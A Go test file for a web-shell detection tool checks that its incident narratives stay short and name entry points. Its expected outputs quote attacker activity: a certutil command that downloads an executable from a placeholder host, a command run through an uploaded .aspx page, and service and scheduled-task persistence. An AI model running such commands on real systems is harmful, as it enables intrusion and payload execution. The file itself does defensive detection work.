package phrase_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"webshellscan/report/phrase"
	"webshellscan/rules"
	"webshellscan/scan"
	"webshellscan/scan/event"
	"webshellscan/scan/story"
)

// TestStoryIsShort: however much happened, a story has ten lines at most, in the
// order of time, and what weighs most stands in one of its own.
func TestStoryIsShort(t *testing.T) {
	for _, n := range []int{0, 1, 2, 10, 11, 100, 5000} {
		s := &scan.Session{}
		for i := range n {
			f := &scan.Finding{Time: event.Time(i+1) * event.Second, Level: rules.LevelMedium, Image: `C:\a.exe`, CommandLine: fmt.Sprintf("a.exe %c", 'a'+rune(i))}
			if i == n/2 {
				f.Level, f.CommandLine = rules.LevelCritical, "the gravest"
			}
			s.Findings = append(s.Findings, f)
			s.Shapes = append(s.Shapes, scan.Shape{Findings: []*scan.Finding{f}})
		}
		lines := phrase.Story(s)
		if want := min(n, phrase.MaxStoryLines); len(lines) > phrase.MaxStoryLines || n <= phrase.MaxStoryLines && len(lines) != want {
			t.Errorf("%d processes: %d lines", n, len(lines))
		}
		alone := n == 0
		for i, line := range lines {
			if i > 0 && line.First < lines[i-1].Last {
				t.Errorf("%d processes: line %d begins before the one above ends", n, i)
			}
			alone = alone || strings.HasSuffix(phrase.Plain(line.Parts), "the gravest") && line.First == line.Last
		}
		if !alone {
			t.Errorf("%d processes: the gravest has no line of its own:\n%+v", n, lines)
		}
	}
}

// TestStoryTells: a story names the page and the client, what was written with
// its hash, what was reached, what was left behind and what ran by it.
func TestStoryTells(t *testing.T) {
	for name, want := range map[string][]string{
		"events-security": {
			"POST /erp/i.aspx from 203.0.113.50: ", `certutil -urlcache -f http://192.0.2.80/u C:\ProgramData\upd.exe; connected to 192.0.2.80:80`, "same page: ",
			"installed the service WinUpd", `run by the scheduled task \Updater`, "used the credentials of CORP\\dbadmin for DB01",
		},
		"events-sysmon": {`wrote C:\inetpub\wwwroot\up\k.aspx`, "SHA-256 ", "its image was tampered with", "connected to 203.0.113.200:8443"},
		"iis-post":      {"POST /uploads/img2.aspx from 203.0.113.9: cmd.exe /c whoami"},
	} {
		s := sessionOf(t, name)
		var all strings.Builder
		for _, line := range phrase.Story(s) {
			all.WriteString(phrase.Plain(line.Parts) + "\n")
		}
		for _, w := range want {
			if !strings.Contains(all.String(), w) {
				t.Errorf("%s: the story lacks %q:\n%s", name, w, &all)
			}
		}
		if strings.Contains(all.String(), "net1.exe") {
			t.Errorf("%s: what net.exe runs by itself is told:\n%s", name, &all)
		}
	}
}

// TestEntryPointIsSaid: an entry point is said with its counts, and that none
// stands out where that is so.
func TestEntryPointIsSaid(t *testing.T) {
	list := phrase.EntryPoints(sessionOf(t, "iis-post"))
	const want = "POST /uploads/img2.aspx (likely): 8 of 8 processes began while it ran (0 would by chance), 8 of its 8 requests ran then; from 203.0.113.9; user agent "
	if len(list) != 1 || !strings.HasPrefix(phrase.Plain(list[0]), want) {
		t.Errorf("entry points: %v", list)
	}
	none := &scan.Session{EntryPoints: []*scan.EntryPoint{{URI: "/", Confidence: story.ConfidenceNone}}}
	if list := phrase.EntryPoints(none); len(list) != 1 || !strings.HasPrefix(phrase.Plain(list[0]), "none stands out: 1 page") {
		t.Errorf("entry points without confidence: %v", list)
	}
	if list := phrase.EntryPoints(&scan.Session{}); list != nil {
		t.Errorf("entry points without a web log: %v", list)
	}
}

// sessionOf scans a scenario of the corpus, and returns its gravest session.
func sessionOf(t *testing.T, name string) *scan.Session {
	t.Helper()
	path := filepath.Join("..", "..", "..", "shared", "corpus", "story", name, "logs")
	if _, err := os.Stat(path); err != nil {
		t.Skip("no ../shared/corpus/story: stories of scenarios were not told")
	}
	res, err := scan.Scan(t.Context(), scan.Options{Paths: []string{path}})
	if err != nil || len(res.Sessions) == 0 {
		t.Fatalf("%s: %v", name, err)
	}
	return res.Sessions[0]
}
